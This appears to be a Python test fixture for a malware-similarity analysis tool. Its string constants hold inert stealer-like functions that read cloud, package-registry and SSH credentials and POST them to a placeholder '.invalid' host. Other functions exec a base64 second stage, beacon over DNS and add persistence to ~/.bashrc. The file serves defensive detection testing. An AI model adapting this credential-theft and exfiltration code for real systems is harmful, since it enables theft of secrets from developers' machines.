"""Inert malware-like code for the similarity tests, and CodeItems made from it as static
analysis would make them. The code would decode base64 and exec it, read the environment and
post it to made-up `.invalid` hosts; it is only ever tokenised, never written out or run."""

from __future__ import annotations

import hashlib

from malgraph.analysis.tokens import normalised_tokens
from malgraph.core.code import token_digest
from malgraph.core.languages import language_of
from malgraph.core.relations import CodeItem
from malgraph.relations.minhash import Sketcher
from malgraph.relations.similar import own_tokens

SEED_FUNCTIONS = (
    """def collect_host(target):
    info = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
    for name in ("AWS_SECRET", "NPM_TOKEN", "GITHUB_TOKEN"):
        info[name] = os.environ.get(name, "")
    return json.dumps(info)
""",
    """def deliver(payload, url="https://collect.example.invalid/upload"):
    request = urllib.request.Request(url, data=payload.encode(), method="POST")
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.status == 200
    except Exception:
        return False
""",
    """def stage_two(blob):
    code = base64.b64decode(blob)
    if len(code) > 16 and code[:2] != b"MZ":
        exec(compile(code, "<stage>", "exec"), {"__name__": "stage"})
    return len(code)
""",
    """def read_secrets(home):
    found = []
    for rel in (".npmrc", ".pypirc", ".aws/credentials", ".ssh/id_rsa"):
        path = os.path.join(home, rel)
        if os.path.exists(path):
            with open(path) as handle:
                found.append((rel, handle.read()[:4096]))
    return found
""",
    """def beacon(interval, rounds):
    counter = 0
    while counter < rounds:
        name = "%s.%d.beacon.example.invalid" % (socket.gethostname(), counter)
        try:
            socket.gethostbyname(name)
        except OSError:
            counter += 2
        time.sleep(interval * (counter + 1))
        counter += 1
    return counter
""",
    """def persist(command):
    target = os.path.expanduser("~/.bashrc")
    line = "\\n(%s &) >/dev/null 2>&1\\n" % command
    if os.path.exists(target) and line not in open(target).read():
        with open(target, "a") as handle:
            handle.write(line)
        return True
    return False
""",
    """def main():
    report = collect_host("default")
    report += json.dumps(read_secrets(os.path.expanduser("~")))
    if deliver(report):
        stage_two("cHJpbnQoImhhcm1sZXNzIik=")
        persist("python -c 'print(1)'")
    beacon(30, 3)
""",
)
OTHER_FUNCTIONS = (
    """def parse_config(text):
    values, section = {}, None
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line.startswith(";"):
            continue
        if line.startswith("[") and line.endswith("]"):
            section = values.setdefault(line[1:-1], {})
        elif "=" in line and section is not None:
            key, _, value = line.partition("=")
            section[key.strip()] = value.strip()
    return values
""",
    """class Cache:
    def __init__(self, limit=128):
        self.limit, self.items, self.order = limit, {}, []

    def get(self, key, default=None):
        if key in self.items:
            self.order.remove(key)
            self.order.append(key)
            return self.items[key]
        return default

    def put(self, key, value):
        if len(self.order) >= self.limit:
            del self.items[self.order.pop(0)]
        self.items[key] = value
        self.order.append(key)
""",
    """def checksum(chunks, modulus=65521):
    a, b = 1, 0
    for chunk in chunks:
        for byte in chunk:
            a = (a + byte) % modulus
            b = (b + a) % modulus
    return (b << 16) | a
""",
    """def render_table(rows, widths=None):
    widths = widths or [max(len(str(r[i])) for r in rows) for i in range(len(rows[0]))]
    out = []
    for row in rows:
        cells = [str(cell).ljust(width) for cell, width in zip(row, widths)]
        out.append(" | ".join(cells))
    return "\\n".join(out)
""",
    """async def fetch_all(session, urls, limit=4):
    results = {}
    queue = list(urls)
    while queue:
        batch, queue = queue[:limit], queue[limit:]
        for url in batch:
            async with session.get(url) as reply:
                results[url] = await reply.text()
    return results
""",
)
HEADER = "import base64, getpass, json, os, socket, time, urllib.request\n\n"


def program(functions: tuple[str, ...] | list[str], header: str = HEADER) -> str:
    return header + "\n\n".join(functions)


def item(key: int, files: dict[str, str], archive: str | None = None) -> CodeItem:
    """The CodeItem static analysis would record for these files (see analyze_members)."""
    facts, streams = [], []
    for path in sorted(files):
        data = files[path].encode()
        language = language_of(path)
        if language is None:
            facts.append((path, hashlib.sha256(data).hexdigest(), None, 0))
            continue
        tokens = normalised_tokens(files[path], language)
        if tokens:
            streams.append(" ".join(tokens))
        facts.append((path, hashlib.sha256(data).hexdigest(), token_digest(tokens), len(tokens)))
    if archive is None:
        archive = hashlib.sha256(repr(sorted(files.items())).encode()).hexdigest()
    return CodeItem(key, archive, tuple(facts), " ".join(streams))


def exact(sketcher: Sketcher, a: list[str], b: list[str]) -> float:
    """The exact Jaccard index of two streams' shingle sets."""
    sa, sb = (set(sketcher.shingles(x).tolist()) for x in (a, b))
    return len(sa & sb) / len(sa | sb)


STREAM = own_tokens(item(1, {"core.py": program(SEED_FUNCTIONS)}))
